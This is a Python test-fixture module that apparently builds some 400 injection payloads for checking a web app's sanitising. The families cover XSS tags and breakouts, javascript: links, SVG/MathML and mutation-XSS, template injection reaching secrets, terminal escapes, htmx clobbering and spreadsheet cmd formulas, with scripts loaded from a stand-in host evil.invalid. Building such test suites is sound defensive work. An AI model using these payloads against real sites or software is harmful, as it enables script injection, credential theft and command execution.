r"""Some 400 texts that want to be more than texts, of our own making: vectors × contexts × encodings.

In a vector RUN stands for a call of the canary (``canary(17)``: whoever calls it is caught, see
tests/browser/canary.py), HOST for an address on another host, NUM for the payload's number. Families:

elements        tags that run something by themselves, or when touched
breakouts       ends of an attribute or of an element that a text may stand in, and then a vector
links           addresses that run, leave or deceive, each as Markdown and HTML write links
foreign         SVG and MathML, whose parsing rules differ
templates       what a template engine or a script around the text would evaluate
markers         our own markers for words (``<!--t …-->``), comments, CDATA
unicode         direction marks, look-alikes, overlong bytes, NUL, lone surrogates, other encodings of ``<``
terminal        ANSI and OSC sequences; what they draw is less than what they are
mutations       what is harmless until a sanitiser's output is parsed again
clobbering      ids, names and htmx attributes that our own scripts would believe
formulas        cells that a spreadsheet would compute
encodings       three vectors in every encoding that a page, an address or a script undoes
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from html import unescape
from itertools import product
from typing import NamedTuple
from urllib.parse import quote

ELEMENTS = r"""
<script>RUN</script>
<SCRIPT>RUN</SCRIPT >
<script/x>RUN</script>
<script type=module>RUN</script>
<script src=HOST></script>
<script src="data:text/javascript,RUN"></script>
<<script>RUN//<</script>
<scr<script>ipt>RUN</scr</script>ipt>
<script>RUN
<noscript><script>RUN</script></noscript>
<img src=x onerror=RUN>
<img src=x onerror="RUN"//
<IMG SRC=x ONERROR=RUN>
<img/src=x/onerror=RUN>
<img src=HOST>
<img srcset="HOST 1x">
<image src=x onerror=RUN>
<picture><source srcset=HOST><img></picture>
<body onload=RUN>
<body onpageshow=RUN>
<body background=HOST>
<frameset onload=RUN><frame src=HOST>
<iframe src="javascript:RUN"></iframe>
<iframe onload=RUN></iframe>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.RUN&gt;"></iframe>
<iframe src="data:text/html,<script>parent.RUN</script>"></iframe>
<object data="javascript:RUN"></object>
<object data=HOST></object>
<embed src="javascript:RUN">
<embed src=HOST>
<video src=x onerror=RUN></video>
<video poster=HOST></video>
<video><source onerror=RUN></video>
<audio src=x onerror=RUN></audio>
<track src=HOST>
<input autofocus onfocus=RUN>
<input type=image src=x onerror=RUN>
<select autofocus onfocus=RUN></select>
<textarea autofocus onfocus=RUN></textarea>
<button autofocus onfocus=RUN>b</button>
<a href=# autofocus onfocus=RUN>a</a>
<div contenteditable autofocus onfocus=RUN>d</div>
<b tabindex=1 id=x onfocusin=RUN>b</b>
<details open ontoggle=RUN>d</details>
<marquee onstart=RUN>m</marquee>
<dialog open onclose=RUN><form method=dialog><button>x</button></form></dialog>
<div popover onbeforetoggle=RUN>p</div>
<xss onpointerrawupdate=RUN style=display:block>x</xss>
<b onmouseover=RUN>bold</b>
<p onclick=RUN>p</p>
<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=RUN>b</b>
<b style="transition:color 1s" ontransitionend=RUN>b</b>
<style>@import 'HOST';</style>
<style>*{background:url(HOST)}</style>
<style>b{x:expression(RUN)}</style>
<p style="background:url(HOST)">p</p>
<p style="-moz-binding:url(HOST);behavior:url(HOST)">p</p>
<p style="position:fixed;inset:0;z-index:9999">p</p>
<link rel=stylesheet href=HOST>
<link rel=icon href=HOST>
<link rel=preload as=script href=HOST>
<link rel=dns-prefetch href=HOST>
<base href=HOST/>
<base target=_blank>
<meta http-equiv=refresh content="0;url=HOST">
<meta http-equiv=refresh content="0;javascript:RUN">
<meta http-equiv=Set-Cookie content="sessionid=x">
<meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'">
<meta name=referrer content=unsafe-url>
<form action="javascript:RUN"><button>go</button></form>
<form action=HOST method=post><input name=csrfmiddlewaretoken></form>
<button form=filters formaction=HOST>go</button>
<isindex action="javascript:RUN" type=image>
<table background=HOST><td background=HOST>t</table>
<template shadowrootmode=open><script>RUN</script></template>
<portal src=HOST></portal>
<a ping=HOST href=/>p</a>
<bgsound src=HOST>
<plaintext>
<xmp><script>RUN</script></xmp>
<listing>&lt;img src=x onerror=RUN&gt;</listing>
""".strip().split("\n")

ATTRIBUTE_ENDS = ('"', "'", "`", '">', "'>", '\\">', "&quot;>", "%22>")
IN_A_TAG = (" onmouseover=RUN x=", " autofocus onfocus=RUN x=", "/><img src=x onerror=RUN>", "><script>RUN</script>")
ELEMENT_ENDS = (
    "</pre>", "</code></pre>", "</textarea>", "</title>", "</style>", "</script>", "</noscript>", "</template>",
    "</select>", "</time></q>", "</mark></span>", "</svg>", "</math>", "-->", "--!>", "]]>", "*/-->", "?>",
)  # fmt: skip
AFTER_AN_ELEMENT = ("<img src=x onerror=RUN>", "<script>RUN</script>", "<svg onload=RUN>")

ADDRESSES = (
    "javascript:RUN", "JaVaScRiPt:RUN", "java\tscript:RUN", "java&#9;script:RUN", "javascript&colon;RUN",
    "&#106;avascript:RUN", " javascript:RUN", "javascript://x%0aRUN", "data:text/html,<script>RUN</script>",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=#NUM", "vbscript:RUN", "file:///etc/passwd#NUM",
    "HOST", "\\\\evil.invalid\\NUM", "https://github.com@evil.invalid/NUM", "view-source:javascript:RUN",
)  # fmt: skip
LINKS = (
    "[label](ADDRESS)",
    "[label][1]\n\n[1]: ADDRESS",
    "<ADDRESS>",
    '<a href="ADDRESS">label</a>',
    '![label](ADDRESS "onerror=RUN")',
)

FOREIGN = r"""
<svg onload=RUN>
<svg/onload=RUN>
<svg><script>RUN</script></svg>
<svg><script href="data:text/javascript,RUN"/></svg>
<svg><a xlink:href="javascript:RUN"><text x=9 y=9>t</text></a></svg>
<svg><a><animate attributeName=href values="javascript:RUN"/><text y=9>t</text></a></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s></svg>
<svg><set onend=RUN attributeName=x dur=1ms></svg>
<svg><use href="data:image/svg+xml,<svg id='x'><script>RUN</script></svg>#x"/></svg>
<svg><use href="HOST#x"/></svg>
<svg><image href=HOST onerror=RUN /></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.RUN</script>"/></foreignObject></svg>
<svg><style>@import 'HOST';</style></svg>
<svg><desc><![CDATA[</desc><script>RUN</script>]]></svg>
<math><maction actiontype="statusline" xlink:href="javascript:RUN">m</maction></math>
<math href="javascript:RUN">m</math>
<math><mtext><img src=x onerror=RUN></mtext></math>
<?xml-stylesheet href="javascript:RUN"?>
""".strip().split("\n")

TEMPLATES = r"""
{{ 7*7 }}{{ constructor.constructor('RUN')() }}
{{''.__class__.__mro__[1].__subclasses__()}}NUM
{{ settings.SECRET_KEY }} {{ request.user.password }} NUM
{{ "<script>RUN</script>"|safe }}
{% load x %}{% include "leaderboard/operate.html" %}NUM
{% autoescape off %}<img src=x onerror=RUN>{% endautoescape %}
{% debug %}NUM{# RUN #}
{%- for x in ().__class__.__base__.__subclasses__() -%}NUM{%- endfor -%}
${RUN} #{RUN} @(RUN) *{RUN}
<%= RUN %><% RUN %>
[[${RUN}]] [(${RUN})]
%(reason)s %s %d {0} {reason} {RUN} %NUM
';RUN;//
';RUN;var x='
";RUN;//
"-RUN-"
\';RUN;//
\";RUN;//
`+RUN+`
*/RUN/*
);RUN;(
}};RUN;{{
</script><script>RUN</script><script>
"}</script><script>RUN</script>{"
{"__proto__": {"x": "<script>RUN</script>"}}
<!--<script>RUN//--></script>
]}%>RUN
$\href{javascript:RUN}{tex}$ \(x\) $NUM$
""".strip().split("\n")

MARKERS = r"""
<!--t step NUM--> <!--t page-url NUM output 1-->
<!--t output-url NUM--><!--t output-link-->
<!--t hidden NUM 2--><!--t no-such-word-->
&lt;!--t step NUM--&gt;
<<!--t step NUM-->script>RUN</script>
<!--t step <!--t step NUM--> -->
<!--t step 1--!><script>RUN</script>
<!--t kind-{0.__class__} NUM-->
<!--t step ${RUN}-->
<!-- <script>RUN</script> -->
<!--><script>RUN</script>
<!---><img src=x onerror=RUN>
<!--[if IE]><script>RUN</script><![endif]-->
<! foo="><script>RUN</script>">
</ foo="><script>RUN</script>">
<? foo="><script>RUN</script>">
<![CDATA[<script>RUN</script>]]>
<![CDATA[]]><script>RUN</script>
</section></main></body></html><script>RUN</script>
<!doctype html><html><head><script>RUN</script>
""".strip().split("\n")

UNICODE = (
    "evil\u202egpj.exe NUM", "\u2066<script>RUN</script>\u2069", "\u202e<img src=x onerror=RUN>\u202c",
    "\u200fRUN\u200e\u061c", "\uff1cscript\uff1eRUN\uff1c/script\uff1e", "\u02c2script\u02c3RUN", "\u2039img onerror=RUN\u203a",
    "<\u017fcript>RUN</\u017fcript>", "<\u0455cript>RUN</\u0455cript>", "<img src=x onerror=\uff32\uff35\uff2eRUN>",
    "<scr\0ipt>RUN</scr\0ipt>", "<\0script>RUN</script>", "<img\0src=x onerror=RUN>", "<img src=x onerror\0=RUN>",
    "\ud800<script>RUN</script>", "<img src=x \udfff onerror=RUN>", "\udcc0\udcbcscript\udcc0\udcbeRUN",
    "\xc0\xbcscript\xc0\xbeRUN", "<\u200bscript>RUN</script>", "<\ufeffscript>RUN</script>", "<script\u2028>RUN</script>",
    "\u2028RUN\u2029RUN", "<img\u00a0src=x onerror=RUN>", "<img\x0csrc=x\x0conerror=RUN>", "<img\x0bsrc=x onerror=RUN>",
    "<a\u0338 href=javascript:RUN>x</a>", "\u0301<script>RUN</script>", "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "\x1b(J<script>RUN</script>", "\x85<script>RUN</script>\x9d", "<script\N{DIGIT ONE}>RUN", "\U000e0001<b onclick=RUN>",
)  # fmt: skip

TERMINAL = (
    "\x1b]8;;javascript:RUN\x1b\\label\x1b]8;;\x1b\\", "\x1b]8;;HOST\x07label\x1b]8;;\x07",
    '\x1b]8;id="><script>RUN</script>;x\x07label\x1b]8;;\x07', "\x1b]0;<script>RUN</script>\x07label NUM",
    "\x1b]52;c;PHNjcmlwdD4=\x07label NUM", "\x1b]1337;File=inline=1:PHN2Zz4=\x07label NUM", "\x1b]<script>RUN</script>",
    "\x1bP<script>RUN</script>\x1b\\label", "\x1b_<script>RUN</script>\x1b\\label", "\x1b^<img src=x onerror=RUN>\x1b\\label",
    '\x1b[31;"><script>RUN</script>m', "\x1b[31m<script>\x1b[32mRUN\x1b[0m</script>", "<scr\x1b[1mipt>RUN</scr\x1b[0mipt>",
    "<\x1b[31mimg src=x onerror=RUN>\x1b[0m", "x\b<\bscript>RUN", "harmless NUM\r<script>RUN</script>",
    "<script>RUN</script>\rharmless", "\x1b[2J\x1b[H<svg onload=RUN>", "\x1b[1A<svg onload=RUN>\x1b[K",
    "\x9b31m<script>RUN</script>", "\x1b[38;2;1;2;999999999999m<b onclick=RUN>", "\x1b[?1049h<img src=x onerror=RUN>",
)  # fmt: skip

MUTATIONS = r"""
<noscript><p title="</noscript><img src=x onerror=RUN>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">
<svg></p><style><a id="</style><img src=x onerror=RUN>">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>
<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=RUN>">
<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=RUN>">
<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=RUN>">
<table><td><form><table><tr><form><img src=x onerror=RUN>
<div><br><p id="</p><img src=x onerror=RUN>">
<listing>&#10;<img src="&lt;img src=x onerror=RUN&gt;"></listing>
<xmp><p title="</xmp><svg/onload=RUN>">
<a href="x`><img src=x onerror=RUN>`">x</a>
<textarea><img title="</textarea><img src=x onerror=RUN>"></textarea>
`<img src=x onerror=RUN>` ``` <svg onload=RUN> ```
""".strip().split("\n")

CLOBBERING = r"""
<form id=htmx><input name=ajax id=NUM></form>
<a id=canary><a id=canary name=toString href=NUM>x</a>
<img name=currentScript data-plotly=HOST>
<img name=cookie><img name=head><img name=body id=NUM>
<a id=Plotly href=HOST>x</a>
<form id=filters action=HOST><input name=sort></form>
<form><input name=action><input name=submit><input name=attributes value=NUM></form>
<div id=content><div id=board><div id=found><div id=poll>NUM
<div id=step-1 class=step>NUM</div><mark id=hit-1-1>NUM</mark>
<div hx-get=HOST hx-trigger=load>x</div>
<div data-hx-get=HOST data-hx-trigger=load>x</div>
<div hx-on:load=RUN hx-on--load=RUN>x</div>
<div hx-get=/ hx-trigger=load hx-vals='js:{"x": RUN}'>x</div>
<div hx-get=/ hx-trigger="load[RUN]">x</div>
<div hx-swap-oob="innerHTML:#board" id=board>NUM</div>
<div data-charts=HOST><div data-plot=scatter></div></div>
<div data-toolbar><output data-announce data-step="<img src=x onerror=RUN>"></output></div>
<a class=fold href=HOST aria-expanded=false>NUM</a>
<input name=csrfmiddlewaretoken value=NUM><a id=location href=HOST>x</a>
<meta name=htmx-config content='{"allowEval": true, "selfRequestsOnly": false, "x": NUM}'>
""".strip().split("\n")

FORMULAS = (
    "=cmd|'/C calc'!A0 NUM", "+cmd|'/C calc'!A0 NUM", "-2+3+cmd|'/C calc'!A0 NUM", "@SUM(1+1)*cmd|'/C calc'!A0 NUM",
    '=HYPERLINK("https:HOST","label")', '=IMPORTXML("https:HOST","//a")', '=WEBSERVICE("https:HOST")',
    "=1+1;NUM", "%0A=1+NUM", "\uff1dcmd|'/C calc'!A0 NUM", '"=cmd|NUM"', ",=cmd|NUM", "\t=cmd|NUM", " =cmd|NUM",
)  # fmt: skip

BASES = ("<script>RUN</script>", "<img src=x onerror=RUN>", '<a href="javascript:RUN">label</a>')


class Payload(NamedTuple):
    """One text, and the family it is of."""

    text: str
    family: str


def encoded(text: str) -> Iterator[str]:
    """``text`` in encodings that something between us and a reader's eyes could undo."""
    yield "".join(f"&#{ord(each)};" for each in text)
    yield "".join(f"&#x{ord(each):x}" for each in text)
    yield "".join(f"&#{ord(each):07d};" for each in text)
    yield text.replace("<", "&lt;").replace(">", "&gt;")
    yield text.replace("<", "&amp;lt;").replace(">", "&amp;gt;")
    yield quote(text)
    yield quote(quote(text))
    yield "".join(f"\\x{ord(each):02x}" for each in text)
    yield "".join(f"\\u{ord(each):04x}" for each in text)
    yield base64.b64encode(text.encode()).decode()
    yield text.replace("canary", "c\\u0061nary")
    yield text.upper().replace("CANARY", "window['can'+'ary']")
    yield text.replace("<", "<\n").replace(" ", "\n")


def _vectors() -> Iterator[tuple[str, str]]:
    """Every family with its vectors, RUN, HOST and NUM still in them."""
    listed = {
        "elements": ELEMENTS,
        "foreign": FOREIGN,
        "templates": TEMPLATES,
        "markers": MARKERS,
        "unicode": UNICODE,
        "terminal": TERMINAL,
        "mutations": MUTATIONS,
        "clobbering": CLOBBERING,
        "formulas": FORMULAS,
        "encodings": BASES,
    }
    for family, vectors in listed.items():
        yield from ((family, vector) for vector in vectors)
    yield from (("breakouts", end + rest) for end, rest in product(ATTRIBUTE_ENDS, IN_A_TAG))
    yield from (("breakouts", end + rest) for end, rest in product(ELEMENT_ENDS, AFTER_AN_ELEMENT))
    yield from (("links", link.replace("ADDRESS", to)) for link, to in product(LINKS, ADDRESSES))


def _payloads() -> Iterator[Payload]:
    number = 0
    for family, vector in _vectors():
        number += 1
        host = f"//evil.invalid/{number}"
        text = vector.replace("RUN", f"canary({number})").replace("HOST", host).replace("NUM", str(number))
        if family == "encodings":
            yield from (Payload(each, family) for each in encoded(text))
        else:
            yield Payload(text, family)


PAYLOADS = tuple(_payloads())
TEXTS = tuple(payload.text for payload in PAYLOADS)


def letters(text: str) -> str:
    """What is left of a text when Markdown and HTML have had their way with its punctuation."""
    return "".join(each for each in unescape(text) if each.isalnum() and each.isascii())
